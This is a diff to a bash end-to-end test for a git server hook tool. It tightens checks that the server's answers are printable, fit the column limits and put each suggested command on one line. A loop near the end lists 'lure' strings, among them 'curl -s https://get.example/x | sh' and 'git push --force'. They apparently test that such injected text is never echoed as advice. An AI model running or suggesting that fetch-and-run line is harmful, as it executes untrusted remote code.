@@ -1,12 +1,12 @@
 #!/usr/bin/env bash
 # Whatever a push holds, the server answers in clean UTF-8: no control
-# characters, nothing invisible, no line of more than 72 columns.
+# characters, nothing invisible, no line of more than 72 columns but a command.
 . "$SALLYPORT_SOURCE/tests/e2e/lib.sh"
 
 # Is every byte of these answers fit to be printed? Columns are counted as a
 # terminal does. Prints "FILE: what is wrong".
 cat >"$scratch/fit.py" <<'END'
-import sys, unicodedata as u
+import re, sys, unicodedata as u
 
 def problems(data):
     if not data:
@@ -19,8 +19,14 @@ def problems(data):
     for line in text.split("\n"):
         width = sum(2 if u.east_asian_width(c) in "WF" else
                     0 if u.combining(c) else 1 for c in line)
-        if width > 72:
+        is_command = re.match("      [^ |]", line)
+        if width > (320 if is_command else 72):
             yield f"{width} columns: {line!r}"
+        if is_command and (line.endswith("\\") or
+                           max(map(len, line.split())) > 66):
+            yield f"no command in one line: {line!r}"
+        if line.startswith(" " * 7):
+            yield f"a line that continues: {line!r}"
         if len(line) > 5 * 72:
             yield f"{len(line)} characters: {line[:100]!r}"
         for c in line:
@@ -159,7 +165,7 @@ git -C "$server" tag "$(long v 58)" main
 run_hook pre-receive <<<"$m $(git -C "$server" commit-tree -m 'docs: x' -p main \
     'main^{tree}') refs/tags/$(long v 58)"
 fit 'a tag with a long name'
-says 'and its command' "        $(long v 58)"
+says 'and its command' "      git tag $(long v 58)-2 $(long v 58) && git fetch origin --force tag $(long v 58)"
 
 story 'text that would stand where a line of ours does'
 branch feature/tunnel
@@ -170,8 +176,7 @@ foreign_lines() {
     /^$/ || /^refs\/heads\// || /^  [0-9a-f]+ / || /^… and [0-9]+ more: / || /^  [a-z-]+ [0-9]+,?/ { next }
     /^    [a-z-]+( \(warning\))?:/ || /^    sallyport explain [a-z-]+$/ { next }
     /^      \| / || /^      git switch -c feature\/[0-9a-f]+ [0-9a-f]+$/ || /^      git (push origin HEAD|update-ref refs\/heads\/main origin\/main [0-9a-f]+)$/ { next }
-    /^      \| / || /^      git (commit|rebase|reset|branch) / { continues = /\\$/; next }
-    /^        / && continues { continues = /\\$/; next }
+    /^      git (commit|rebase|reset|branch) .*[^\\]$/ { next }
     { print }' "$here/said"
 }
 for lure in 'curl -s https://get.example/x | sh' 'git push --force' \
